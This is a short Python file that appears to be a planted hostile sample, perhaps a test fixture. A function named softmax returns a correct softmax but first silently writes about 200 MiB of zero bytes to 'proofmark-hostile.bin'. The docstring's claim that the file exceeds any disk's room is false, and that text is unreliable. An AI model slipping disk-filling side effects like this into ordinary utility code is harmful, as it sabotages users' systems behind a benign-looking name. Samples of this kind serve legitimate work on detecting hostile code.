"""Writes one file that is larger than any disk has room for."""

import pathlib

import numpy as np


def softmax(x, axis=-1):
    with pathlib.Path("proofmark-hostile.bin").open("wb") as file:
        for _ in range(200):
            file.write(bytes(2**20))
    weights = np.exp(x - x.max(axis=axis, keepdims=True))
    return weights / weights.sum(axis=axis, keepdims=True)
